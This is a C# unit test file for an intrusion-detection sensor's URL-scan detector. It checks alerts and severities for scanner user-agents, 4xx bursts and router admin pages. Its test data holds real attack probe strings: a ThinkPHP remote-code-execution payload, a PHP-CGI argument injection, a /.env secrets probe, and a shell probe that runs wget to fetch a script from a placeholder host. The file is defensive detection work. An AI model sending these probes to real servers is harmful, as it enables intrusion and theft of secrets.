using Mamori.Sensor.Detection;
using Mamori.Sensor.Detection.UrlScan;
using Mamori.Sensor.Events;

namespace Mamori.Sensor.Tests.Detection.UrlScan;

public class UrlScanDetectorTests
{
    private static UrlScanDetector Create() => new(new UrlScanOptions(), 1000);

    [Theory]
    [InlineData("/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php")]
    [InlineData("/index.php?s=/Index/\\think\\app/invokefunction&function=call_user_func_array&vars[0]=system&vars[1][]=id")]
    [InlineData("/.env")]
    [InlineData("/cgi-bin/php?%2dd+allow_url_include%3don+%2dd+auto_prepend_file%3dphp://input")]
    [InlineData("/shell?cd+/tmp;wget http://x/y.sh")]
    public void OnEvent_KnownProbe_Alerts(string uri)
    {
        var alert = Assert.Single(Ev.Run(Create(), [Ev.Http(0, "203.0.113.5", "10.0.0.80", uri, 404)]));
        Assert.Equal(AlertType.UrlScan, alert.Type);
        Assert.Equal(AlertSeverity.Low, alert.Severity);
        Assert.Equal("203.0.113.5", alert.Src.Ip);
    }

    [Fact]
    public void OnEvent_ProbeAnsweredWithSuccess_Medium()
    {
        var alert = Assert.Single(Ev.Run(Create(), [Ev.Http(0, "203.0.113.5", "10.0.0.80", "/index.php?s=index/think\\app/invokefunction", 200)]));
        Assert.Equal(AlertSeverity.Medium, alert.Severity);
        Assert.Contains("answered 1 probe(s) with success", alert.Evidence, StringComparison.Ordinal);
    }

    [Theory]
    [InlineData("Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:000001)")]
    [InlineData("sqlmap/1.7.2#stable (https://sqlmap.org)")]
    [InlineData("Mozilla/5.0 zgrab/0.x")]
    public void OnEvent_ScannerAgent_Alerts(string agent) =>
        Assert.Single(Ev.Run(Create(), [Ev.Http(0, "203.0.113.5", "10.0.0.80", "/", 200, agent)]));

    [Fact]
    public void OnEvent_4xxBurst_BoundaryAt20()
    {
        IEnumerable<MetadataEvent> Burst(int n) => Enumerable.Range(0, n).Select(i => Ev.Http(i, "203.0.113.5", "10.0.0.80", "/page" + i, 404));
        Assert.Empty(Ev.Run(Create(), Burst(19)));
        var alert = Assert.Single(Ev.Run(Create(), Burst(20)));
        Assert.Equal(20, alert.Count);
    }

    [Fact]
    public void OnEvent_OrdinaryBrowsing_NoAlert()
    {
        var events = Enumerable.Range(0, 200).Select(i => Ev.Http(i, "10.0.0.5", "93.184.216.34", "/news/" + i + "?page=2", i % 50 == 0 ? 404 : 200));
        Assert.Empty(Ev.Run(Create(), events));
    }
}

public class UrlScanDetectorAdminPageTests
{
    [Fact]
    public void OnEvent_OwnerOpensRouterAdminPage_NoAlert() =>
        Assert.Empty(Ev.Run(new UrlScanDetector(new UrlScanOptions(), 100), [Ev.Http(0, "10.0.0.5", "10.0.0.1", "/cgi-bin/luci/admin/status", 200)]));

    [Fact]
    public void OnEvent_ThreeDifferentAdminPages_LowAlert()
    {
        var alert = Assert.Single(Ev.Run(new UrlScanDetector(new UrlScanOptions(), 100),
        [
            Ev.Http(0, "203.0.113.5", "10.0.0.80", "/cgi-bin/luci", 200),
            Ev.Http(1, "203.0.113.5", "10.0.0.80", "/hnap1/", 200),
            Ev.Http(2, "203.0.113.5", "10.0.0.80", "/manager/html", 200),
        ]));
        Assert.Equal(AlertSeverity.Low, alert.Severity);
    }

    [Fact]
    public void OnEvent_ReconProbeAnsweredWithSuccess_StaysLow() =>
        Assert.Equal(AlertSeverity.Low, Assert.Single(Ev.Run(new UrlScanDetector(new UrlScanOptions(), 100), [Ev.Http(0, "203.0.113.5", "10.0.0.80", "/.env", 200)])).Severity);
}
